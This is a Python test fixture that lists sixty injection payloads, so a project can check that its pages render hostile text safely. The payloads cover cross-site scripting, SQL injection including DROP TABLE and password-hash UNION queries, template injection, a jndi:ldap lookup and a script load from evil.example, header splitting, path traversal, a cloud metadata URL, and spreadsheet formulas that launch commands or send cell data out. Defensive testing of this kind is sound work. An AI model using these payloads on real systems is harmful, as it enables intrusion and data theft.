"""Sixty texts that have broken other programs, by what they attack. None may be executed, none may break a page."""

from __future__ import annotations

from leadline.kernel import facts
from leadline.kernel.findings import Reason, Record, ScoredException
from leadline.kernel.statements import plain
from tests.support.queue import drawn

PAYLOADS: tuple[tuple[str, str], ...] = (
    # HTML and scripts
    ("script", "<script>alert(1)</script>"),
    ("script that closes the table", "</td></tr></table><script src=//evil.example/x.js></script>"),
    ("script that closes a script", "</script><script>alert(1)</script>"),
    ("handler behind a quote", '"><img src=x onerror=alert(1)>'),
    ("handler in a quoted attribute", "' onmouseover='alert(1)"),
    ("focus that fires by itself", '" autofocus onfocus="alert(1)'),
    ("handler without blanks", "<svg/onload=alert(1)>"),
    ("frame", "<iframe srcdoc='<script>alert(1)</script>'>"),
    ("link that is a script", "<a href=javascript:alert(1)>click</a>"),
    ("address that is a script", "javascript:alert(1)"),
    ("address that is a document", "data:text/html,<script>alert(1)</script>"),
    ("comment that is open", "<!--<script>"),
    ("end of CDATA", "]]><script>alert(1)</script>"),
    ("style", "<style>*{display:none}</style>"),
    ("refresh", "<meta http-equiv=refresh content='0;url=//evil.example'>"),
    ("form", "<form action=//evil.example><button>"),
    ("base", "<base href=//evil.example>"),
    ("request by an attribute", '<div hx-get="//evil.example" hx-trigger="load">'),
    ("row that leads elsewhere", '<tr data-href="//evil.example">'),
    ("text that was escaped before", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("script in math", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"),
    ("object", "<object data=//evil.example/x.swf><embed src=//evil.example>"),
    # SQL
    ("SQL that is always true", "' OR '1'='1"),
    ("SQL that drops", "'; DROP TABLE exception; --"),
    ("SQL that joins", "' UNION SELECT password_hash FROM access_user --"),
    ("SQL that waits", "1; SELECT pg_sleep(10)"),
    ("SQL wildcards", "%_%"),
    ("SQL escape", "\\' OR 1=1 --"),
    # Templates and expressions
    ("Jinja expression", "{{ 7 * 7 }}"),
    ("Jinja file", "{% include '/etc/passwd' %}"),
    ("Jinja way to Python", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("expression language", "${7*7}"),
    ("Ruby template", "<%= 7 * 7 %>"),
    ("look-up of a logger", "${jndi:ldap://evil.example/a}"),
    # Headers
    ("header", "x\r\nSet-Cookie: session=stolen"),
    ("answer within an answer", "x\r\n\r\n<html>owned</html>"),
    ("header by its code", "%0d%0aLocation:%20//evil.example"),
    ("header by another line break", "x\u2028Set-Cookie: a=b"),
    # Paths and addresses
    ("path upwards", "../../../../etc/passwd"),
    ("path upwards, coded", "..%2f..%2f..%2fetc%2fpasswd"),
    ("path of another system", "..\\..\\windows\\win.ini"),
    ("address without scheme", "//evil.example/x"),
    ("address with backslash", "/\\evil.example"),
    ("address of this machine", "http://169.254.169.254/latest/meta-data"),
    # Text that is not what it seems
    ("turned direction", "\u202egnp.exe<script>"),
    ("isolate", "\u2066abc\u2069\u2067cba"),
    ("null byte", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    ("terminal", "\x1b[31m<b>\x1b]0;owned\x07"),
    ("only blanks", " \t \u00a0\u2003 "),
    ("piled marks", "Z" + "\u0301" * 200),
    # Spreadsheets
    ("formula", "=1+1"),
    ("formula that runs", "=cmd|' /C calc'!A0"),
    ("formula that asks", '=HYPERLINK("http://evil.example?x="&A1,"click")'),
    ("formula by sign", "-2+3+cmd|' /C calc'!A0"),
    ("formula by at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("formula in a line of its own", "a\r=1+1"),
    # Formats, numbers, sizes
    ("format of C", "%s%s%s%n%x"),
    ("format of Python", "{0.__class__.__init__.__globals__}"),
    ("JSON in JSON", '","role":"admin","x":"'),
    ("overlong", "A" * 5000),
)


def everywhere(text: str, object_id: str = "INV-1") -> ScoredException:
    """Return an exception with a text wherever a source can put one."""
    reason = Reason("x", plain(text), 1.0, (Record(text, text, text, facts.text(text)),))
    texts = dict.fromkeys(("title", "action", "expected", "seen", "legal_entity_id"), text)
    routed = {"owner": text, "model_version": text, "snapshot_id": text}
    return drawn(object_id, reasons=(reason,), facts={text: facts.text(text)}, similar=(text,), scored=routed, **texts)
